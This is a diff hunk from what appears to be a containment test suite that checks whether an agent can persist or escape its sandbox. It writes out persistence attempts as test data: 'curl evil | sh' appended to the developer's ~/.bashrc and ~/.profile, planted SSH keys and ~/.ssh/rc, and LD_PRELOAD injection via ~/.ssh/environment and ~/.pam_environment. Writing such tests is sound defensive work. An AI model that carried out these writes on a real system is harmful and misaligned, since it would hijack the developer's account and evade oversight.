@@ -20,9 +20,9 @@ raw "if loginctl enable-linger 2>/dev/null; then echo 'ESC L06 0 OK linger enabl
 expect L06 "enable lingering" '!OK' -
 attempt L07 "append to the developer's ~/.bashrc"  EACCES rec write "$DH/.bashrc" 'curl evil | sh'
 attempt L08 "append to the developer's ~/.profile" EACCES rec write "$DH/.profile" 'curl evil | sh'
-attempt L09 "write the agent's ~/.ssh/authorized_keys" 'EACCES|EROFS' rec write "\$HOME/.ssh/authorized_keys" 'ssh-ed25519 AAAA esc'
-attempt L10 "write the agent's ~/.ssh/rc (run by sshd at the next login)" 'EACCES|EROFS' rec write "\$HOME/.ssh/rc" 'touch /tmp/rc-ran'
-attempt L11 "write the agent's ~/.ssh/environment" 'EACCES|EROFS' rec write "\$HOME/.ssh/environment" 'LD_PRELOAD=/tmp/x.so'
+attempt_sh L09 "write the agent's ~/.ssh/authorized_keys" 'EACCES|EROFS' rec 'write "$HOME/.ssh/authorized_keys" "ssh-ed25519 AAAA esc"'
+attempt_sh L10 "write the agent's ~/.ssh/rc (run by sshd at the next login)" 'EACCES|EROFS' rec 'write "$HOME/.ssh/rc" "touch /tmp/rc-ran"'
+attempt_sh L11 "write the agent's ~/.ssh/environment" 'EACCES|EROFS' rec 'write "$HOME/.ssh/environment" "LD_PRELOAD=/tmp/x.so"'
 # ~/.pam_environment would be read by pam_env (user_readenv) before the shell runs.
 raw "printf 'LD_PRELOAD DEFAULT=$ESC_LIB/preload.so\nBASH_ENV DEFAULT=$ESC_LIB/bashenv.sh\n' > \$HOME/.pam_environment 2>/dev/null; echo \"ESC L12 \$? pam_env-written\""
 expect L12 "plant ~/.pam_environment (checked at the next login)" ANY -
